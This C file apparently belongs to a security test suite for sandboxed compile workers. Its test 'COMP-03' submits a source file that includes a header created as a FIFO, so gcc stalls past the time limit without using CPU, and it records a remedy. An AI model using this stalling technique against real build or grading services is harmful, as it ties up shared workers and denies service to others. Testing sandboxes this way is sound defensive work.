// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker waits longer than the exercise allows.
 * Means: one of the files handed in is a FIFO: archives keep them, and to unpack one makes it. To
 *        open it is to wait for somebody who writes. The compiler waits, takes no time of the
 *        processor, and no limit of it is ever reached.
 */
#include "attacks/compile-phase/compile.h"

#include <signal.h>

#define SECONDS 8
#define HEADER	"tables.h"

/* At last: a writer who comes and goes is the end of the file. */
static void answer(int unused)
{
	(void)unused;
	close(open(HEADER, O_WRONLY | O_NONBLOCK));
}

static enum claim run(const struct brief *b)
{
	if (!enter_folder(b) || !hand_in("answer.c", "#include \"" HEADER "\"\n") ||
	    mkfifo(HEADER, 0600))
		return failed("hand in");
	signal(SIGALRM, answer);
	attempting(b);
	alarm(SECONDS);
	return RUN(GCC, "-c", "answer.c") ? denied("gcc") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the worker waits longer than allowed, for the compiler",
	.means = "#include of a FIFO that nobody writes to",
	.oracle = "usage:time",
	.needs = NEED_CC,
	.id = "COMP-03",
	.attack_id = "T1499.003, CWE-400",
	.remedy = "a wall clock around the compiler, too; plain files only",
	.refs = (const char *const[]){ "fifo(7)", NULL },
	.run = run,
};
